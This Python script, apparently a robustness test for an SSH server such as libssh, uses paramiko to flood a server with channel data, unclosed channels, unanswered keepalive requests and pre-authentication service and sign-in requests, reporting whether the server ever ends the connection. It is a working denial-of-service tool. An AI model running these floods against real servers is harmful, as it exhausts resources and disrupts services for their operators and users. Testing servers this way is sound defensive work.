"""Does what no client does: KIND HOST PORT USER KEY. Prints "not ended" where nobody ended it."""

import sys
import threading

import paramiko
from packets import show_log, signed_in, typed

kind, host, port, user, key_file = sys.argv[1:]
show_log()


def sign_in():
    return signed_in(host, port, user, key_file)


def started(transport, command):
    channel = transport.open_session(timeout=20)
    channel.exec_command(command)
    return channel


def send(transport, packet, times):
    """Sends a packet again and again until the other end has had enough."""
    for _ in range(times):
        if not transport.is_active():
            break
        try:
            transport._send_message(packet)
        except (OSError, EOFError):
            break
    else:
        print("not ended")
    transport.join(20)


def window():
    transport = sign_in()
    channel = started(transport, "echo started; sleep 1000")
    assert channel.recv(100) == b"started\n"
    print("flooding", flush=True)
    send(transport, typed(94, channel.remote_chanid, bytes(32000)), 10000)


def closed_channel():
    """The same on a channel whose program has ended, and that is never closed."""
    paramiko.Channel._close_internal = lambda channel: (None, None)
    transport = sign_in()
    channel = started(transport, "exit 3")
    assert channel.recv_exit_status() == 3
    print("flooding", flush=True)
    send(transport, typed(94, channel.remote_chanid, bytes(32000)), 10000)


def unclosed():
    paramiko.Channel._close_internal = lambda channel: (None, None)
    transport = sign_in()
    count = 0
    try:
        while count < 1000:
            assert started(transport, "exit 3").recv_exit_status() == 3
            count += 1
    except paramiko.ChannelException as error:
        print(f"refused after {count}: {error}")
    transport.close()


def answers():
    """Asks for answers, by requests that libssh answers by itself, and does not read them."""
    transport = sign_in()
    transport.packetizer.read_message = threading.Event().wait
    print("flooding", flush=True)
    send(transport, typed(80, "keepalive@openssh.com", True), 5_000_000)


def before_sign_in(packet):
    transport = paramiko.Transport((host, int(port)))
    transport.start_client(timeout=20)
    # paramiko gives up at answers that it did not ask for: a sign-in's and a service's.
    transport._handler_table.update({6: lambda answer: None, 51: lambda answer: None})
    send(transport, packet, 100_000)


def services():
    before_sign_in(typed(5, "ssh-userauth"))


def names():
    before_sign_in(typed(50, b"\xff\xfe", "ssh-connection", "none"))


{
    "window": window,
    "closed-channel": closed_channel,
    "unclosed": unclosed,
    "answers": answers,
    "services": services,
    "names": names,
}[kind]()
print("done")
